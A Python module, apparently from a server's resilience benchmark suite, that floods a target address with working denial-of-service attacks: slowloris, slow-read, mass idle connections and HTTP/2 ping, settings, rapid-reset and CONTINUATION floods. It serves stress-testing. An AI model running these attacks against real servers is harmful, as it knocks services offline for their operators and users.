"""Somebody who attacks: one case, one address, as hard as one process can, until it is told to stop.

    python -m benchmarks.attacker CASE ADDRESS PORT

It says "under way" when all its connections have been made once (or it has tried long enough). On SIGTERM it ends and
prints, as one line of JSON, what has become of its connections. A connection that is cut is made anew.
"""

from __future__ import annotations

import argparse
import errno
import json
import math
import resource
import select
import signal
import socket
import time
from collections import deque
from collections.abc import Mapping
from dataclasses import dataclass, field
from types import FrameType

from parsers.http2 import frames
from parsers.http2.frames import PREFACE, ErrorCode
from parsers.http2.hpack import encode

READ_BYTES = 1 << 16
SMALL_WINDOW = 4096
"""Receive buffer of those who do not read, so that they are full at once."""

DIALS_AT_ONCE = 256
"""Connections whose handshake is under way: more would overflow the listener's queue, and then wait for seconds."""

RAMP_S = 15.0
SWEEP_S = 0.1
SPARE_DESCRIPTORS = 64
UNDER_WAY = "under way"
_HUNG_UP = select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR


@dataclass(frozen=True, slots=True)
class Attack:
    """So many connections at once, each of which sends `opening` as soon as it is there.

    `repeats`: and again, for as long as somebody takes it. `drip` follows every `every_s`. Without `reads` nothing that
    comes is taken. A connection whose bytes nobody takes for `patience_s` is given up for a new one. A connection
    that was cut is made anew after `pause_s`.
    """

    connections: int
    opening: bytes = b""
    repeats: bool = False
    drip: bytes = b""
    every_s: float = 0.0
    reads: bool = True
    patience_s: float = math.inf
    pause_s: float = 0.0

    @property
    def sweeps(self) -> bool:
        """There is something to look after from time to time."""
        return bool(self.drip) or self.patience_s < math.inf


def _get(path: str) -> bytes:
    return b"GET %s HTTP/1.1\r\nHost: server\r\n\r\n" % path.encode()


def _resets(count: int) -> bytes:
    """Permitted requests, each of which is given up at once."""
    fields = [(b":method", b"GET"), (b":scheme", b"http"), (b":authority", b"server"), (b":path", b"/api/v1/items")]
    block = encode(fields)
    numbers = range(1, 2 * count, 2)
    return b"".join(
        frames.headers(number, block, end_stream=True) + frames.rst_stream(number, ErrorCode.CANCEL)
        for number in numbers
    )


_HELLO = PREFACE + frames.frame(frames.SETTINGS, 0, 0)
_ENDLESS = frames.frame(frames.HEADERS, 0, 1, b"\x82") + frames.frame(frames.CONTINUATION, 0, 1, b"x" * 1000) * 80
FLOODING = 8
"""Connections that flood at once."""

ATTACKS: Mapping[str, Attack] = {
    "slowloris": Attack(1_000, b"GET /api/v1/items HTTP/1.1\r\nX-Slow: ", drip=b"x", every_s=0.5),
    "slow-read": Attack(100, _get("/api/large") * 64, reads=False),
    "silent-10000": Attack(10_000, pause_s=1.0),
    "ping-flood": Attack(FLOODING, _HELLO + frames.frame(frames.PING, 0, 0, b"12345678") * 1_200),
    "settings-flood": Attack(FLOODING, _HELLO + frames.frame(frames.SETTINGS, 0, 0) * 120),
    "rapid-reset": Attack(FLOODING, _HELLO + _resets(600)),
    "continuation-flood": Attack(FLOODING, _HELLO + _ENDLESS),
    "pipelined-refusals": Attack(FLOODING, _get("/private") * 500, repeats=True, reads=False, patience_s=0.1),
    "malformed": Attack(FLOODING, b"GET /api/v1/items HTTP/1.1\r\nHost : server\r\n\r\n"),
}


@dataclass(slots=True)
class Tally:
    """What has become of the connections. `most`: so many were open at once."""

    made: int = 0
    cut: int = 0
    given_up: int = 0
    failed: int = 0
    most: int = 0


@dataclass(slots=True, eq=False)
class Connection:
    """`left`: what is still to be sent of the present piece. `moved`: when bytes were last taken."""

    sock: socket.socket
    left: memoryview
    moved: float
    is_made: bool = False
    waits: bool = field(default=True)
    """For room in the socket's buffer, or for the handshake."""


class Attacker:
    def __init__(self, attack: Attack, target: tuple[str, int], connections: int) -> None:
        self.tally = Tally()
        self._attack = attack
        self._target = target
        self._poller = select.epoll()
        self._connections: dict[int, Connection] = {}
        self._due = deque([0.0] * connections)
        """When the connections that are missing are to be made, soonest first."""
        self._wanted = connections
        self._dialing = 0
        self._is_told = False
        self._stopped = False

    def stop(self, signum: int, frame: FrameType | None) -> None:
        self._stopped = True

    def run(self) -> None:
        start = swept = time.monotonic()
        while not self._stopped:
            now = time.monotonic()
            self._dial(now)
            for fd, events in self._poller.poll(SWEEP_S / 10 if self._due else SWEEP_S, 256):
                self._handle(self._connections[fd], events)
            if self._attack.sweeps and now - swept > SWEEP_S:
                swept = now
                self._sweep(now)
            if not self._is_told and (self.tally.made >= self._wanted or now - start > RAMP_S):
                self._is_told = True
                print(UNDER_WAY, flush=True)

    # -- making and ending connections -----------------------------------------------------------------------------

    def _dial(self, now: float) -> None:
        while self._due and self._due[0] <= now and self._dialing < DIALS_AT_ONCE:
            self._due.popleft()
            sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
            sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
            if not self._attack.reads:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, SMALL_WINDOW)
            if sock.connect_ex(self._target) not in (0, errno.EINPROGRESS):
                self.tally.failed += 1
                sock.close()
                self._due.append(now + 1.0)
                continue
            self._dialing += 1
            self._connections[sock.fileno()] = Connection(sock, memoryview(self._attack.opening), now)
            self._poller.register(sock, self._interest(waits=True))

    def _interest(self, *, waits: bool) -> int:
        return select.EPOLLRDHUP | (select.EPOLLIN if self._attack.reads else 0) | (select.EPOLLOUT if waits else 0)

    def _end(self, connection: Connection, pause_s: float) -> None:
        self._dialing -= not connection.is_made
        del self._connections[connection.sock.fileno()]
        connection.sock.close()
        self._due.append(time.monotonic() + pause_s)

    def _cut(self, connection: Connection) -> None:
        """The other side has ended it, or never accepted it."""
        if connection.is_made:
            self.tally.cut += 1
        else:
            self.tally.failed += 1
        self._end(connection, self._attack.pause_s)

    # -- what connections do ---------------------------------------------------------------------------------------

    def _handle(self, connection: Connection, events: int) -> None:
        try:
            if events & select.EPOLLOUT and not events & select.EPOLLERR:
                self._writable(connection)
            if events & select.EPOLLIN:
                while connection.sock.recv(READ_BYTES):
                    pass
                events |= _HUNG_UP
        except BlockingIOError:
            pass
        except OSError:
            events |= _HUNG_UP
        if events & _HUNG_UP:
            self._cut(connection)

    def _writable(self, connection: Connection) -> None:
        if not connection.is_made:
            connection.is_made = True
            self._dialing -= 1
            self.tally.made += 1
            self.tally.most = max(self.tally.most, len(self._connections) - self._dialing)
        if connection.left or self._attack.repeats:
            connection.moved = time.monotonic()
        try:
            self._send(connection)
        except BlockingIOError:
            self._wait(connection, True)

    def _send(self, connection: Connection) -> None:
        """As much as is taken, but of an endless stream one piece at a time: others have their turn, too."""
        if not connection.left and self._attack.repeats:
            connection.left = memoryview(self._attack.opening)
        if connection.left:
            connection.left = connection.left[connection.sock.send(connection.left) :]
        self._wait(connection, bool(connection.left) or self._attack.repeats)

    def _wait(self, connection: Connection, waits: bool) -> None:
        if waits != connection.waits:
            connection.waits = waits
            self._poller.modify(connection.sock, self._interest(waits=waits))

    def _sweep(self, now: float) -> None:
        attack = self._attack
        for connection in list(self._connections.values()):
            if not connection.is_made:
                continue
            if connection.waits and now - connection.moved > attack.patience_s:
                self.tally.given_up += 1
                self._end(connection, 0.0)
            elif attack.drip and not connection.left and now - connection.moved > attack.every_s:
                connection.moved = now
                try:
                    connection.sock.send(attack.drip)
                except OSError:
                    self._cut(connection)


def _descriptors() -> int:
    """As many as this process may have. Raises the soft limit."""
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    return hard


def main() -> None:
    parser = argparse.ArgumentParser(description="Attack a server until SIGTERM; part of the benchmark `attacks`.")
    parser.add_argument("case", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("port", type=int)
    arguments = parser.parse_args()
    attack = ATTACKS[arguments.case]
    connections = min(attack.connections, _descriptors() - SPARE_DESCRIPTORS)
    attacker = Attacker(attack, (arguments.address, arguments.port), connections)
    signal.signal(signal.SIGTERM, attacker.stop)
    attacker.run()
    tally = attacker.tally
    print(
        json.dumps(
            {
                "made": tally.made,
                "cut": tally.cut,
                "given_up": tally.given_up,
                "failed": tally.failed,
                "most": tally.most,
            }
        ),
        flush=True,
    )


if __name__ == "__main__":
    main()
